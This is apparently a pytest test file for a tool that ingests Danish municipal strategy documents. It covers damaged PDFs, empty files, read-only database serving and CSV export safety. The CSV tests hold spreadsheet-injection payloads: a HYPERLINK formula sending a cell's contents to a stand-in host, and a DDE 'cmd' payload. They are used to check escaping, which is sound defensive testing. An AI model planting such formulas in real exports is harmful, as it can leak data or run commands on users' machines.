"""Defects a new user met (session 7): said plainly on one line, never silently, nothing lost."""

from __future__ import annotations

import json
import re

import pytest
from typer.testing import CliRunner

import pdfgen
from stratcompare.cli import app
from stratcompare.ingest import ingest_paths
from stratcompare.store import Store

runner = CliRunner()


# --- test data: a multi-page PDF damaged in the middle -------------------------------------------
def _fifteen_pages(path) -> None:
    paras: list = []
    for i in range(15):
        paras += [f"# Afsnit {i + 1}",
                  f"Kommunen vil styrke indsatsen for udsatte borgere i afsnit {i + 1}. " * 20, "\f"]
    pdfgen.make_text_pdf(path, paras[:-1], running_header="Socialstrategi 2024-2027")


def _objects(data: bytes) -> dict[int, int]:
    """Object number -> byte offset of "N 0 obj" (reportlab writes each object once)."""
    return {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", data)}


def _damaged_pdf(path, how: str = "zero") -> None:
    """Pages 5-15 of a 15-page PDF lost: their content streams zeroed ("zero"), their stream bytes
    garbled ("junk"), or their page objects zeroed ("pages") — a download damaged in the middle
    whose xref and trailer survived, so PDFium still opens the file."""
    _fifteen_pages(path)
    data = path.read_bytes()
    objs = _objects(data)
    page_objs = sorted(n for n, at in objs.items() if data[at:at + 80].find(b"/Contents") > 0)
    contents = [int(re.search(rb"/Contents (\d+) 0 R", data[objs[n]:objs[n] + 80]).group(1))
                for n in page_objs]
    assert len(page_objs) == 15
    out = bytearray(data)
    if how == "pages":
        start, end = objs[page_objs[4]], objs[page_objs[-1] + 1]
        out[start:end] = b"\0" * (end - start)
    elif how == "zero":
        start, end = objs[contents[4]], data.index(b"xref", objs[contents[-1]])
        out[start:end] = b"\0" * (end - start)
    else:
        for n in contents[4:]:
            a = data.index(b"stream", objs[n]) + 7
            b = data.index(b"endstream", a)
            out[a:b - 2] = b"z" * (b - 2 - a)
    path.write_bytes(bytes(out))


@pytest.mark.parametrize("how", ["zero", "junk", "pages"])
def test_pdf_damaged_in_the_middle_is_stored_in_part_and_said(tmp_path, how):
    pdf = tmp_path / "strategi.pdf"
    _damaged_pdf(pdf, how)
    db = tmp_path / "c.db"
    result = runner.invoke(app, ["ingest", str(pdf), "--db", str(db), "-m", "Køge"])
    assert "Traceback" not in result.output
    assert "stored 4 of 15 pages; pages 5–15 could not be read" in result.output, result.output
    assert result.exit_code == 5, result.output   # not a clean success
    summary = result.output.strip().splitlines()[-1]
    assert summary.startswith("0 ingested") and "1 partial" in summary, summary
    with Store.open(db) as store:
        doc = store.documents()[0]
        statuses = [p["status"] for p in store.pages(doc["id"])]
    assert doc["status"] == "partial" and doc["kind"] == "pdf"
    assert statuses == ["ok"] * 4 + ["damaged"] * 11
    assert any("pages 5–15 could not be read" in w for w in doc["warnings"])
    shown = runner.invoke(app, ["show", doc["id"], "--db", str(db)]).output
    assert "pages 5–15 could not be read" in shown
    assert "  page 4: text, ok" in shown and "  page 5: none, damaged" in shown, shown
    listed = runner.invoke(app, ["documents", "--db", str(db), "--format", "json"]).output
    assert json.loads(listed)[0]["status"] == "partial"


def test_a_blank_page_is_not_called_damaged(tmp_path):
    pdf = tmp_path / "blank.pdf"
    pdfgen.make_text_pdf(pdf, ["Kommunen vil styrke den tidlige indsats. " * 20, "\f", "\f",
                               "Udgifterne skal bringes i balance. " * 20])
    report = ingest_paths([pdf], db=tmp_path / "c.db", municipality="Køge")
    (r,) = report.results
    assert r.outcome == "ingested" and r.damaged_pages == 0 and report.exit_code == 0, r
    assert not any("could not be read" in w for w in r.warnings)


def _pdf_with_empty_compressed_page(path) -> None:
    """Two pages: text, then a blank page whose content stream is compressed and empty (some
    writers make blank pages so; it decodes fine and must not be called damaged)."""
    import zlib

    text = (b"BT /F1 11 Tf 60 760 Td 14 TL (Kommunen vil styrke den tidlige indsats for boern og "
            b"unge.) ' (Udgifterne skal bringes i balance over de naeste fire aar.) ' ET")
    empty = zlib.compress(b"")
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
            b"/Resources << /Font << /F1 7 0 R >> >> >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(empty) + empty
            + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for i, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    path.write_bytes(bytes(out))


def test_an_empty_compressed_page_is_blank_not_damaged(tmp_path):
    pdf = tmp_path / "blank2.pdf"
    _pdf_with_empty_compressed_page(pdf)
    report = ingest_paths([pdf], db=tmp_path / "c.db", municipality="Køge")
    (r,) = report.results
    assert r.outcome == "ingested" and r.pages == 2 and r.passages >= 1, r
    assert r.damaged_pages == 0 and report.exit_code == 0


def test_damaged_copy_does_not_replace_a_whole_stored_version(tmp_path):
    pdf = tmp_path / "strategi.pdf"
    _fifteen_pages(pdf)
    db = tmp_path / "c.db"
    assert ingest_paths([pdf], db=db, municipality="Køge").exit_code == 0
    _damaged_pdf(pdf)     # the same path, downloaded again and damaged
    report = ingest_paths([pdf], db=db, municipality="Køge")
    (r,) = report.results
    assert r.status == "failed" and report.exit_code == 5
    assert "kept the version stored before" in r.error and "pages 5–15" in r.error
    with Store.open(db) as store:
        (doc,) = store.documents()
        assert doc["status"] == "ok" and doc["passages"] == 15
    forced = ingest_paths([pdf], db=db, municipality="Køge", force=True)
    assert forced.results[0].outcome == "partial"
    with Store.open(db) as store:
        assert store.documents()[0]["passages"] == 4


def test_a_pdf_with_no_readable_page_fails(tmp_path):
    pdf = tmp_path / "gone.pdf"
    _fifteen_pages(pdf)
    data = pdf.read_bytes()
    objs = _objects(data)
    first = min(n for n, at in objs.items() if b"/Contents" in data[at:at + 80])
    content = int(re.search(rb"/Contents (\d+) 0 R", data[objs[first]:objs[first] + 80]).group(1))
    start, end = objs[content], data.index(b"xref")
    pdf.write_bytes(data[:start] + b"\0" * (end - start) + data[end:])
    report = ingest_paths([pdf], db=tmp_path / "c.db")
    (r,) = report.results
    assert r.status == "failed" and r.error_kind == "corrupt-pdf", r
    assert "none of its 15 pages could be read" in r.error


# --- whitespace-only text: an error like a 0-byte file ------------------------------------------
def test_whitespace_only_text_is_an_error_like_an_empty_file_and_the_batch_goes_on(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "zero.txt").write_bytes(b"")
    (folder / "spaces.txt").write_text("  \n\n\t \n", encoding="utf-8")
    (folder / "bom.md").write_bytes(b"\xef\xbb\xbf \r\n")
    (folder / "blank.html").write_text("<html><body> <p> </p></body></html>", encoding="utf-8")
    (folder / "good.txt").write_text("Køge Kommune vil styrke den tidlige indsats for børn og "
                                     "unge i udsatte positioner.\n", encoding="utf-8")
    db = tmp_path / "c.db"
    result = runner.invoke(app, ["ingest", str(folder), "--db", str(db), "-q"])
    assert result.exit_code == 4, result.output          # one kind of failure: empty file
    errors = [ln for ln in result.output.splitlines() if ln.startswith("Error: ")]
    assert len(errors) == 4 and "Traceback" not in result.output
    for name in ("zero.txt", "spaces.txt", "bom.md", "blank.html"):
        assert any(str(folder / name) in ln for ln in errors), (name, errors)
    assert any("only spaces and line breaks" in ln for ln in errors)
    with Store.open(db) as store:
        stored = [d for d in store.documents() if d["status"] != "failed"]
    assert [d["path"] for d in stored] == [str(folder / "good.txt")]


def test_whitespace_only_new_copy_keeps_the_stored_text(tmp_path):
    txt = tmp_path / "a.txt"
    txt.write_text("Køge Kommune vil styrke den tidlige indsats for børn og unge.\n", "utf-8")
    db = tmp_path / "c.db"
    ingest_paths([txt], db=db)
    txt.write_text("   \n", "utf-8")
    report = ingest_paths([txt], db=db)
    assert report.results[0].error_kind == "empty-file"
    with Store.open(db) as store:
        assert store.documents()[0]["passages"] == 1


# --- a machine-readable ingest report -----------------------------------------------------------
def test_ingest_format_json_gives_one_record_per_file(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    good = folder / "good.txt"
    good.write_text("Køge Kommune vil styrke den tidlige indsats for børn og unge.\n", "utf-8")
    (folder / "spaces.txt").write_text(" \n", "utf-8")
    _damaged_pdf(folder / "damaged.pdf")
    db = tmp_path / "c.db"
    first = runner.invoke(app, ["ingest", str(folder), "--db", str(db), "-m", "Køge",
                                "--format", "json"])
    records = {r["path"]: r for r in json.loads(first.stdout)}
    assert set(records) == {str(good), str(folder / "spaces.txt"), str(folder / "damaged.pdf")}
    assert records[str(good)]["status"] == "ingested" and records[str(good)]["passages"] == 1
    bad = records[str(folder / "spaces.txt")]
    assert bad["status"] == "failed" and "only spaces" in bad["error"] and bad["passages"] == 0
    part = records[str(folder / "damaged.pdf")]
    assert part["status"] == "partial" and part["pages"] == 15 and part["damaged_pages"] == 11
    assert first.exit_code == 1   # two kinds of trouble: an empty file and a damaged PDF
    again = runner.invoke(app, ["ingest", str(good), "--db", str(db), "--format", "jsonl"])
    (line,) = again.stdout.strip().splitlines()
    rec = json.loads(line)
    assert rec["status"] == "unchanged" and rec["passages"] == 1 and rec["error"] is None


# --- CSV exports: text a spreadsheet would run as a formula ------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Klik")', "+45 12 34 56 78", "@SUM(1+1)",
            "- Housing First for unge", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
PLAIN = ["-3", "+4,5", "-12%", "3.5", "Housing First giver hjemløse borgere en bolig.",
         "«Tidlig indsats» = bedre liv"]


@pytest.fixture
def hostile_db(tmp_path):
    from synth_store import add_document, add_passage, add_theme

    path = tmp_path / "h.db"
    with Store.open(path) as store:
        add_document(store.conn, "dk", "Køge", title="=1+1 strategi", year=2024)
        for i, text in enumerate(FORMULAS + PLAIN):
            add_passage(store.conn, f"k{i}", "dk", text, seq=i)
            add_theme(store.conn, f"k{i}", "housing_first", 0.9)
    return path


def test_csv_safe_rule():
    from stratcompare.compare.export import csv_safe

    for text in FORMULAS:
        assert csv_safe(text) == "'" + text
    for value in PLAIN + [-3, 0.25, -0.5, None, ""]:
        assert csv_safe(value) == value


@pytest.mark.parametrize("args", [
    ["compare", "--cell", "Køge:housing_first", "--format", "csv"],
    ["passages", "--format", "csv"],
])
def test_csv_export_neutralises_formulas_and_keeps_numbers(hostile_db, tmp_path, args):
    import csv as csvmod

    out = tmp_path / "out.csv"
    result = runner.invoke(app, [*args, "--db", str(hostile_db), "-o", str(out)]
                           if args[0] == "compare" else [*args, "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    text = out.read_text("utf-8") if args[0] == "compare" else result.stdout
    rows = list(csvmod.DictReader(text.splitlines()))
    texts = {r["text"] for r in rows}
    assert texts == {"'" + t for t in FORMULAS} | set(PLAIN), texts
    for r in rows:   # no cell of any column starts a formula; numbers are numbers
        assert not any(v.startswith(("=", "+", "-", "@", "\t")) and v not in PLAIN
                       for v in r.values()), r
    if args[0] == "compare":
        assert {r["document"] for r in rows} == {"'=1+1 strategi"}
        assert {r["probability"] for r in rows} == {"0.9"}


def test_json_export_is_never_altered(hostile_db):
    result = runner.invoke(app, ["passages", "--db", str(hostile_db), "--format", "json"])
    assert {r["text"] for r in json.loads(result.stdout)} == set(FORMULAS + PLAIN)


def test_xlsx_export_keeps_every_text_as_text(hostile_db, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "cell.xlsx"
    result = runner.invoke(app, ["compare", "--cell", "Køge:housing_first", "--format", "xlsx",
                                 "--db", str(hostile_db), "-o", str(out)])
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    col = header.index("text")
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    assert {c.value for c in cells} == set(FORMULAS + PLAIN)
    assert all(c.data_type == "s" for c in cells)


# --- the web application: CSV download, and a database in a read-only place --------------------
HOSTILE_HIT = ("=HYPERLINK(\"http://x.example\";\"Læs mere\") Kommunen vil skaffe billige boliger "
               "til unge hjemløse med bostøtte, så de kan blive boende i egen bolig.")


def _web_db(path, extra: list[dict] | None = None):
    """A small corpus from JSONL, embedded with the hashing encoder and indexed."""
    from stratcompare.embed import embed_passages, get_encoder
    from stratcompare.search import ensure_embeddings, ensure_fts, sync_fts

    src = path.parent / (path.stem + ".jsonl")
    rows = [{"id": f"w{i}", "municipality": "Køge", "document": "boligplan", "page": 1,
             "text": text} for i, text in enumerate([
                 HOSTILE_HIT,
                 "Køge Kommune vil skaffe billige boliger til unge hjemløse med Housing First.",
                 "Tidlig indsats i dagtilbud skal styrke børns trivsel og læring.",
             ])] + (extra or [])
    src.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", "utf-8")
    assert ingest_paths([src], db=path).exit_code == 0
    enc = get_encoder("hashing")
    with Store.open(path) as store:
        embed_passages(store.conn, enc)
        sync_fts(store.conn)
        ensure_fts(store.conn)
        ensure_embeddings(store.conn, enc)
        store.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return path


def test_web_search_csv_neutralises_formulas(tmp_path):
    import csv as csvmod

    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from stratcompare.web import create_app

    db = _web_db(tmp_path / "w.db")
    with TestClient(create_app(db, model="hashing")) as c:
        r = c.get("/search.csv", params={"q": "bolig unge hjemløse"})
    assert r.status_code == 200
    texts = [row["text"] for row in csvmod.DictReader(r.text.splitlines())]
    assert "'" + HOSTILE_HIT in texts, texts
    assert not any(t.startswith("=") for t in texts)


_SERVE_PROBE = r"""
import json, sys
from starlette.testclient import TestClient
from stratcompare.web import create_app
said = []
try:
    app = create_app(sys.argv[1], model="hashing", progress=said.append)
except Exception as exc:
    print(json.dumps({"error": str(exc), "type": type(exc).__name__}))
    raise SystemExit(0)
with TestClient(app) as c:
    r = c.get("/api/search", params={"q": "bolig unge hjemløse"}).json()
    doc = c.get("/api/document/" + r["hits"][0]["document_id"]) if r["hits"] else None
print(json.dumps({"said": said, "hits": [h["passage_id"] for h in r["hits"]],
                  "index_current": r["index_current"], "document": doc and doc.status_code,
                  "title": doc and doc.json()["title"]}))
"""


def _serve_from_readonly_mount(folder, name="w.db") -> dict:
    """Run the web app in a private mount namespace where ``folder`` is a read-only bind mount
    (like a shared read-only drive); skipped where that needs privileges this run lacks."""
    import shutil
    import subprocess
    import sys

    if shutil.which("unshare") is None:
        pytest.skip("needs unshare(1) for a read-only mount")
    mnt = folder.parent / (folder.name + "-ro")
    mnt.mkdir(exist_ok=True)
    script = (f'mount --bind "{folder}" "{mnt}" && mount -o remount,bind,ro "{mnt}" || exit 99; '
              f'exec "{sys.executable}" -c "$0" "{mnt / name}"')
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script, _SERVE_PROBE],
                          capture_output=True, text=True, timeout=300)
    if proc.returncode == 99 or "unshare failed" in proc.stderr \
            or "Operation not permitted" in proc.stderr:
        pytest.skip("no privilege for a read-only bind mount here")
    assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


def test_serve_a_database_in_a_read_only_place(tmp_path):
    folder = tmp_path / "share"
    folder.mkdir()
    db = _web_db(folder / "w.db")
    before = db.read_bytes()
    got = _serve_from_readonly_mount(folder)
    assert "error" not in got, got
    assert got["hits"] and got["index_current"] is True and got["document"] == 200
    notes = [s for s in got["said"] if "read-only place" in s]
    assert len(notes) == 1 and "serving a copy" in notes[0], got["said"]
    assert db.read_bytes() == before and sorted(p.name for p in folder.iterdir()) == ["w.db", "w.jsonl"]


def test_serve_read_only_place_with_changes_still_in_the_wal(tmp_path):
    """Commits still in the -wal file (its writer elsewhere has not merged them) are served too."""
    import shutil
    import sqlite3

    folder = tmp_path / "share"
    folder.mkdir()
    work = tmp_path / "work"
    work.mkdir()
    db = _web_db(work / "w.db")
    conn = sqlite3.connect(db, isolation_level=None)
    conn.execute("PRAGMA wal_autocheckpoint = 0")
    conn.execute("UPDATE documents SET title = 'Revideret boligplan'")
    for suffix in ("", "-wal"):   # a copy taken while the writer is open: the change is in the WAL
        shutil.copyfile(str(db) + suffix, str(folder / "w.db") + suffix)
    conn.close()
    assert (folder / "w.db-wal").stat().st_size > 0
    got = _serve_from_readonly_mount(folder)
    assert "error" not in got and got["hits"], got
    assert got["title"] == "Revideret boligplan"


def test_serve_read_only_place_with_a_stale_index_says_so_and_serves(tmp_path):
    folder = tmp_path / "share"
    folder.mkdir()
    db = _web_db(folder / "w.db")
    with Store.open(db) as store:   # a passage added after the index was built
        store.conn.execute(
            "INSERT INTO passages(id, document_id, seq, page, section, char_start, char_end, "
            "raw_text, text, words) SELECT 'new-passage', document_id, 99, 1, NULL, 0, 10, "
            "'Nyt om bolig', 'Nyt om bolig', 3 FROM passages LIMIT 1")
        store.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    got = _serve_from_readonly_mount(folder)
    assert "error" not in got and got["hits"] and got["index_current"] is False, got
    stale = [s for s in got["said"] if "search index is behind" in s]
    assert len(stale) == 1 and "stratcompare embed" in stale[0], got["said"]


def test_web_document_page_names_the_pages_that_could_not_be_read(tmp_path):
    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from stratcompare.web import create_app

    pdf = tmp_path / "strategi.pdf"
    _damaged_pdf(pdf)
    db = tmp_path / "c.db"
    ingest_paths([pdf], db=db, municipality="Køge")
    with Store.open(db) as store:
        doc_id = store.documents()[0]["id"]
    with TestClient(create_app(db, mode="lexical")) as c:
        html = c.get(f"/document/{doc_id}").text
        english = c.get(f"/document/{doc_id}", params={"lang": "en"}).text
        api = c.get(f"/api/document/{doc_id}").json()
    assert "disse sider kunne ikke læses og mangler her: 5–15" in html
    assert "these pages could not be read and are missing here: 5–15" in english
    assert api["status"] == "partial" and api["pages_damaged"] == "5–15"


def _app_says(db, said):
    from stratcompare.web import create_app

    return create_app(db, model="hashing", progress=said.append)


@pytest.mark.parametrize("writer_open", [False, True])
def test_serve_someone_elses_database_leaves_no_files_beside_it(tmp_path, monkeypatch,
                                                                  writer_open):
    """A database this user may not write, in a folder it may write (a shared folder): read in
    place, SQLite would leave -wal/-shm files owned by this user, on which the owner's next
    write fails.  It is served from a copy instead — with the changes of a writer at work."""
    import sqlite3

    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from stratcompare.web import queries as Q

    folder = tmp_path / "shared"
    folder.mkdir()
    db = _web_db(folder / "w.db")
    writer = None
    if writer_open:   # the owner is ingesting right now: a change still in its -wal
        writer = sqlite3.connect(db, isolation_level=None)
        writer.execute("PRAGMA wal_autocheckpoint = 0")
        writer.execute("UPDATE documents SET title = 'Revideret boligplan'")
    before = sorted(p.name for p in folder.iterdir())
    monkeypatch.setattr(Q, "_may_write", lambda path: False)   # root may write anything
    monkeypatch.setattr(Q, "_read_only_mount", lambda path: False)
    said: list[str] = []
    try:
        with TestClient(_app_says(db, said)) as c:
            hits = c.get("/api/search", params={"q": "bolig unge hjemløse"}).json()["hits"]
            title = c.get("/api/document/" + hits[0]["document_id"]).json()["title"]
    finally:
        if writer is not None:
            writer.close()
    assert hits
    assert title == ("Revideret boligplan" if writer_open else "boligplan")
    notes = [s for s in said if "not writable by this user: serving a copy" in s]
    assert len(notes) == 1, said
    if not writer_open:
        assert before == sorted(p.name for p in folder.iterdir()) == ["w.db", "w.jsonl"]


def test_run_says_a_pdf_was_stored_in_part(tmp_path):
    """`run` (the README's main job) warns about damaged pages as `ingest` does, and its summary
    does not count the file as a clean ingest."""
    pdf = tmp_path / "strategi.pdf"
    _damaged_pdf(pdf, "zero")
    res = runner.invoke(app, ["run", str(pdf), "--db", str(tmp_path / "c.db"), "--report",
                              str(tmp_path / "r.html"), "--model", "hashing"])
    assert "Traceback" not in res.output
    assert res.exit_code == 5, res.output
    assert "Warning: " in res.output and "stored 4 of 15 pages; pages 5–15 could not be read" in res.output
    assert "0 files ingested, 1 partial (damaged pages left out)" in res.output, res.output


def test_run_leaves_the_word_index_ready_for_serve(tmp_path):
    """`serve` never writes, so the word index must be built by `run` (the README's main job);
    otherwise the web's first searches use meaning alone."""
    import shutil
    from pathlib import Path

    from stratcompare.web import queries as Q
    from stratcompare.workflow import run_all

    CORPUS = Path(__file__).resolve().parents[1] / "corpus"
    src = tmp_path / "in"
    src.mkdir()
    for f in sorted(CORPUS.glob("*.txt")) + sorted(CORPUS.glob("*.html"))[:1]:
        shutil.copy(f, src / f.name)
    db = tmp_path / "c.db"
    run_all([src], db=db, report=None, model="hashing", step_progress=False)
    with Store.open(db) as store:
        n = store.conn.execute("SELECT count(*) FROM passages").fetchone()[0]
        indexed = store.conn.execute("SELECT count(*) FROM passage_fts_map").fetchone()[0]
        assert n > 0 and indexed == n
        assert Q.index_status(store.conn, None).fts_current


def test_similar_looks_among_text_and_lists_unless_all_kinds(tmp_path):
    """Issue 9: similar uses content and list passages by default, like search; a heading or a
    minutes' formality is no 'initiative elsewhere'.  --all-kinds takes every kind."""
    from pathlib import Path

    from stratcompare.embed import get_encoder
    from stratcompare.search import similar

    corpus = Path(__file__).resolve().parents[1] / "corpus"
    db = tmp_path / "c.db"
    ingest_paths([corpus / "holstebro-investeringsmodel.txt", corpus / "hjoerring-forebyggelsesstrategi.html"],
                 db=db)
    enc = get_encoder("hashing")
    with Store.open(db) as store:
        kind = dict(store.conn.execute("SELECT id, kind FROM passages"))
        assert {"heading"} <= set(kind.values()), set(kind.values())
        pid = next(p for p, k in kind.items() if k == "content")
        default = [h.passage_id for h in similar(store.conn, pid, top_k=500, encoder=enc,
                                                 other_municipalities=False)]
        every = [h.passage_id for h in similar(store.conn, pid, top_k=500, encoder=enc,
                                               other_municipalities=False, kinds=None)]
    assert default and {kind[p] for p in default} <= {"content", "list", "table"}
    assert "heading" in {kind[p] for p in every}
    out = runner.invoke(app, ["similar", pid, "--db", str(db), "--model", "hashing", "--any-municipality",
                              "--all-kinds", "-k", "500", "--format", "json"]).output
    assert "heading" in {r["kind"] for r in json.loads(out)}
    out = runner.invoke(app, ["similar", pid, "--db", str(db), "--model", "hashing", "--any-municipality",
                              "-k", "500", "--format", "json"]).output
    assert {r["kind"] for r in json.loads(out)} <= {"content", "list", "table"}


def test_a_new_municipality_or_genre_for_an_unchanged_file_takes_effect(tmp_path):
    """`ingest -m X` (or --genre) on a file already stored under another municipality or genre
    applies the override instead of reporting 'unchanged' and keeping the old one."""
    f = tmp_path / "strategi.txt"
    f.write_text("Kommunen vil styrke den tidlige indsats for børn og unge i udsatte positioner.\n\n"
                 "Vi vil samarbejde med foreningerne om fællesskaber for alle.\n", encoding="utf-8")
    db = tmp_path / "c.db"
    assert ingest_paths([f], db=db, municipality="Køge").results[0].status == "ingested"
    again = ingest_paths([f], db=db, municipality="Køge").results[0]
    assert again.status == "unchanged"  # the same override: nothing to do
    moved = ingest_paths([f], db=db, municipality="Herning").results[0]
    assert moved.outcome == "replaced" and moved.municipality == "Herning", moved
    regenred = ingest_paths([f], db=db, genre="strategy").results[0]
    assert regenred.outcome == "replaced", regenred
    with Store.open(db) as store:
        (doc,) = store.documents()
    # the genre given now and the municipality given before both hold
    assert doc["municipality"] == "Herning" and doc["municipality_source"] == "override"
    assert doc["genre"] == "strategy" and doc["genre_source"] == "override"
    assert ingest_paths([f], db=db).results[0].status == "unchanged"  # no override: kept as stored
    # a new version of the file keeps the overrides the user gave (its text names no municipality)
    f.write_text(f.read_text(encoding="utf-8") + "\nVi følger op hvert år.\n", encoding="utf-8")
    changed = ingest_paths([f], db=db).results[0]
    assert changed.outcome == "replaced" and changed.municipality == "Herning", changed
    with Store.open(db) as store:
        (doc,) = store.documents()
    assert doc["genre"] == "strategy" and doc["municipality_source"] == "override"


def test_the_hint_for_a_missing_database_can_be_pasted_with_spaces_and_danish_letters(tmp_path):
    db = tmp_path / "mappe med æøå" / "x.db"
    res = runner.invoke(app, ["documents", "--db", str(db)])
    assert res.exit_code != 0 and "Traceback" not in res.output
    assert f"--db '{db}'" in res.output, res.output


def _dated_and_undated(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "plan.txt").write_text(
        "Handicappolitik 2024-2027\n\nKommunen vil styrke bostøtten til borgere med handicap i eget hjem.\n",
        encoding="utf-8")
    (folder / "side.txt").write_text(
        "Bostøtte\n\nKommunen tilbyder bostøtte til borgere med handicap, der bor i eget hjem.\n",
        encoding="utf-8")
    db = tmp_path / "c.db"
    ingest_paths([folder], db=db, municipality="Køge")
    with Store.open(db) as store:
        years = sorted(str(d["year_start"]) for d in store.documents())
    assert years == ["2024", "None"], years
    return db


def test_a_year_filter_says_how_many_documents_without_a_year_it_leaves_out(tmp_path):
    db = _dated_and_undated(tmp_path)
    res = runner.invoke(app, ["search", "bostøtte", "--db", str(db), "--year", "2025", "--model", "hashing"])
    assert res.exit_code == 0, res.output
    assert "Note: 1 document without a known year is left out by --year" in res.output
    res = runner.invoke(app, ["search", "bostøtte", "--db", str(db), "--model", "hashing"])
    assert "Note:" not in res.output  # no year asked: nothing left out


def test_the_web_says_how_many_documents_without_a_year_a_year_range_leaves_out(tmp_path):
    pytest.importorskip("starlette")
    pytest.importorskip("httpx")
    from starlette.testclient import TestClient

    from stratcompare.web import create_app

    db = _dated_and_undated(tmp_path)
    runner.invoke(app, ["embed", "--db", str(db), "--model", "hashing"])
    with TestClient(create_app(db, model="hashing")) as c:
        page = c.get("/", params={"q": "bostøtte", "year_from": 2024, "year_to": 2026}).text
        assert re.search(r'id="undated">1 dokument uden kendt årstal er ikke med', page), page[-3000:]
        page = c.get("/", params={"q": "bostøtte"}).text
        assert 'id="undated"' not in page
